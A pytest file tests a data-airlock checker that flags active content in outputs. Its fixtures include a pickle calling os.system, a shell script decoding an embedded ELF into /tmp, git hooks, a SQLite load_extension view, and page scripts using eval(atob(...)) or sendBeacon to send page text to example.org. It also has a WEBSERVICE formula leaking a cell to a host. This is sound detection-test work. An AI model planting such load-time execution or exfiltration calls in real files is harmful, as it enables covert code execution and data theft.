"""What the worked examples cannot show of `active_content`: each kind, loading, hooks, schemas, and what is ordinary."""

from __future__ import annotations

import base64
import io
import json
import sqlite3
import zipfile
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from sdc_airlock.checks import Subject, checks
from sdc_airlock.checks._format_facts import ACTIVE, JUDGED
from sdc_airlock.model.content import Oddity, OddityKind, Serialized
from sdc_airlock.model.filetype import Family, FileType
from sdc_airlock.model.finding import Finding, Severity
from sdc_airlock.policy import Profile

TABLE = b"region,cases\nNorth,120\nSouth,95\nEast,210\n"
ORDINARY = {OddityKind.PAGE_SCRIPT, OddityKind.PAGE_REFERENCE, OddityKind.CELL_FORMULA}
ELF = (
    bytes.fromhex("7f454c4602010100000000000000000002003e000100000078004000000000004000") + bytes(30) + b"\x40\x00\x38\x00\x01" + bytes(90)
)
Judge = Callable[..., list[Finding]]


@pytest.fixture
def judge(default_profile: Profile) -> Judge:
    """Runs the check under the default profile, with other rules where they are given."""
    check = checks()["active_content"]
    assert check.on_output is not None
    run = check.on_output
    return lambda subject, **rules: list(run(subject, default_profile.params(check) | rules))


@pytest.fixture
def table(subject_of: Callable[[bytes, str], Subject]) -> Callable[..., Subject]:
    """A plain table, with more parts, oddities or another type."""

    def make(*parts: Any, **changes: Any) -> Subject:
        subject = subject_of(TABLE, "table.csv")
        return replace(subject, content=replace(subject.content, parts=(*subject.content.parts, *parts), **changes))

    return make


def held(findings: list[Finding]) -> set[str]:
    """Rules of the findings that are more than a note."""
    return {finding.rule for finding in findings if finding.severity > Severity.LOW}


def packed(**members: bytes) -> bytes:
    """A zip archive; `__` in a keyword stands for a slash, `_dot_` for a dot."""
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as archive:
        for name, member in members.items():
            archive.writestr(name.replace("__", "/").replace("_dot_", "."), member)
    return data.getvalue()


@pytest.mark.parametrize("kind", sorted(ACTIVE))
def test_each_kind(kind: OddityKind, table: Callable[..., Subject], judge: Judge) -> None:
    """Each kind gives one finding; only what analysis reports and tables are full of is a note."""
    (finding,) = judge(table(oddities=(Oddity(part_id="table.csv!x", kind=kind, detail="somewhere", size=1),)))
    assert (finding.severity is Severity.LOW) == (kind in ORDINARY)
    assert finding.rule == kind.value
    assert "somewhere" in finding.message
    assert finding.remedy == JUDGED[kind].remedy


def test_many_parts_do_not_flood_the_report(table: Callable[..., Subject], judge: Judge) -> None:
    """Twenty parts have a finding each, the rest one; what is only noted is one finding."""
    for kind, findings in ((OddityKind.MACRO, 21), (OddityKind.PAGE_SCRIPT, 1)):
        odd = tuple(Oddity(part_id=f"a.zip/{number}", kind=kind) for number in range(60))
        found = judge(table(oddities=odd))
        assert (len(found), sum(finding.count for finding in found)) == (findings, 60)


def test_a_program_by_itself_is_left_to_the_format(table: Callable[..., Subject], judge: Judge) -> None:
    """That the output is a program is said by `anomalous_format`; a program inside another file is said here."""
    program = FileType(label="elf", family=Family.EXECUTABLE)
    assert judge(table(file_type=program, oddities=(Oddity(part_id="table.csv", kind=OddityKind.EXECUTABLE),))) == []


@pytest.mark.parametrize(("runs", "rules"), [(True, {"runs_on_loading"}), (False, set()), (None, set())])
def test_objects_that_run_on_loading(*, runs: bool | None, rules: set[str], table: Callable[..., Subject], judge: Judge) -> None:
    """An object whose reader saw that loading it runs code is held for that."""
    assert held(judge(table(Serialized(part_id="m.pkl", format="pickle", runs_code=runs)))) == rules


def test_a_pickle_that_runs(subject_of: Callable[[bytes, str], Subject], judge: Judge) -> None:
    """A pickle that calls a command is told, and never loaded."""
    assert held(judge(subject_of(b"cos\nsystem\n(S'true'\ntR.", "model.pkl"))) == {"runs_on_loading"}


def test_programs_inside(subject_of: Callable[[bytes, str], Subject], judge: Judge) -> None:
    """A program in an archive, or encoded in a shell script, is found."""
    assert held(judge(subject_of(packed(readme_dot_txt=b"A tool.\n", tool=ELF), "results.zip"))) == {"executable"}
    script = b'#!/bin/sh\ntail -n +4 "$0" | base64 -d > /tmp/x\nexit\n' + base64.encodebytes(ELF + bytes(range(256)) * 4)
    assert "executable" in held(judge(subject_of(script, "run.sh")))


@pytest.mark.parametrize(
    ("member", "holds"),
    [("_dot_git__hooks__post-checkout", True), ("_dot_git__hooks__pre-commit_dot_sample", False), ("src__hooks__useData_dot_js", False)],
)
def test_hooks(*, member: str, holds: bool, subject_of: Callable[[bytes, str], Subject], judge: Judge) -> None:
    """Hooks that would run are held; samples, and code that is called so, are not."""
    data = packed(**{"readme_dot_txt": b"A tool.\n", member: b"#!/bin/sh\necho done\n"})
    assert ("hook" in held(judge(subject_of(data, "repository.zip")))) == holds


@pytest.mark.parametrize(
    ("statement", "holds"),
    [
        ("CREATE TRIGGER t AFTER INSERT ON r BEGIN SELECT 1; END", True),
        ("CREATE VIEW v AS SELECT load_extension('x.so')", True),
        ("CREATE VIEW v AS SELECT region FROM r", False),
    ],
)
def test_databases(*, statement: str, holds: bool, tmp_path: Path, subject_of: Callable[[bytes, str], Subject], judge: Judge) -> None:
    """Triggers, and views that load code, are held; plain views are not."""
    path = tmp_path / "results.sqlite"
    with sqlite3.connect(path) as link:
        link.execute("CREATE TABLE r (region TEXT, cases INTEGER)")
        link.execute("INSERT INTO r VALUES ('North', 120)")
        link.execute(statement)
    link.close()
    assert ("calling_database" in held(judge(subject_of(path.read_bytes(), "results.sqlite")))) == holds


def page(script: str) -> bytes:
    """A page with one script."""
    return f"<!DOCTYPE html><html><head><title>R</title><script>{script}</script></head><body><p>The mean age was 52.</p></body></html>".encode()


@pytest.mark.parametrize(
    "script",
    [
        "eval(atob('YQ=='))",
        "setTimeout(unescape ( '%61' ), 10)",
        "document.write(unescape('%3Cp%3E'))",
        "navigator.sendBeacon('https://example.org/', document.body.innerText)",
        "var s = new WebSocket('wss://example.org/')",
        "var r = new XMLHttpRequest(); r.open('POST', 'https://example.org/');",
        "fetch(`//example.org/`)",
    ],
)
def test_scripts_that_call_or_conceal(script: str, subject_of: Callable[[bytes, str], Subject], judge: Judge) -> None:
    """A script that calls an address or runs text it decodes is more than a note."""
    assert held(judge(subject_of(page(script), "report.html"))) & {"decoded_code", "calling_script"}


@pytest.mark.parametrize(
    "script",
    [
        "var script = document.createElement('script'); script.src = 'https://mathjax.example/MathJax.js'; document.head.appendChild(script);",
        "Plotly.newPlot('p', [{type: 'bar', x: ['a', 'b'], y: [120, 340]}]);",
        "HTMLWidgets.evaluate = function(task) { return eval('(' + task + ')'); };",
        "fetch('search.json').then(show);",
        "$(document).ready(function () { window.buildTabsets('TOC'); });",
    ],
)
def test_scripts_of_reports_are_noted(script: str, subject_of: Callable[[bytes, str], Subject], judge: Judge) -> None:
    """What knitr, plotly, widgets and search boxes do is a note."""
    findings = judge(subject_of(page(script), "report.html"))
    assert {finding.rule for finding in findings} == {"page_script"}
    assert held(findings) == set()


def test_pages_in_an_archive_are_as_ordinary_as_pages(subject_of: Callable[[bytes, str], Subject], judge: Judge) -> None:
    """A zip of reports is judged as the reports are."""
    report = page("Plotly.newPlot('p', [])")
    assert held(judge(subject_of(packed(a_dot_html=report, b_dot_html=report), "reports.zip"))) == set()


def test_a_notebook_with_a_drawn_figure_is_ordinary(subject_of: Callable[[bytes, str], Subject], judge: Judge) -> None:
    """Scripts among the outputs of a notebook are a note."""
    output = {
        "output_type": "display_data",
        "data": {"text/html": "<script>draw()</script>", "application/javascript": "draw();"},
        "metadata": {},
    }
    cell = {"cell_type": "code", "source": "draw()", "outputs": [output], "metadata": {}, "execution_count": 1}
    book = {"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 4}
    findings = judge(subject_of(json.dumps(book).encode(), "figures.ipynb"))
    assert {finding.rule for finding in findings} == {"page_script"}
    assert held(findings) == set()


def test_code_of_a_repository_is_code(subject_of: Callable[[bytes, str], Subject], judge: Judge) -> None:
    """Scripts that download, build files and statements of databases are what a repository is made of."""
    data = packed(
        Makefile=b"all:\n\tcurl -O https://example.org/x\n\tsh run.sh\n",
        setup_dot_py=b"from setuptools import setup\n\nsetup(name='tool', cmdclass={})\n",
        app_dot_js=b"fetch('https://example.org/data.json').then(show);\n",
        schema_dot_sql=b"CREATE TABLE r (region TEXT);\nCREATE TRIGGER t AFTER INSERT ON r BEGIN SELECT 1; END;\n",
    )
    assert judge(subject_of(data, "repository.zip")) == []


def test_messages_hold_no_value(subject_of: Callable[[bytes, str], Subject], judge: Judge) -> None:
    """What stands in the file never stands in a finding."""
    secret = "Zaphod"
    data = f'name,visits\n{secret},"=WEBSERVICE(""https://{secret}/?""&A2)"\n'.encode()
    for content, name in ((data, "t.csv"), (page(f"fetch('https://{secret}/')"), "r.html")):
        findings = judge(subject_of(content, name))
        assert held(findings)
        assert all(secret not in repr(finding) for finding in findings)
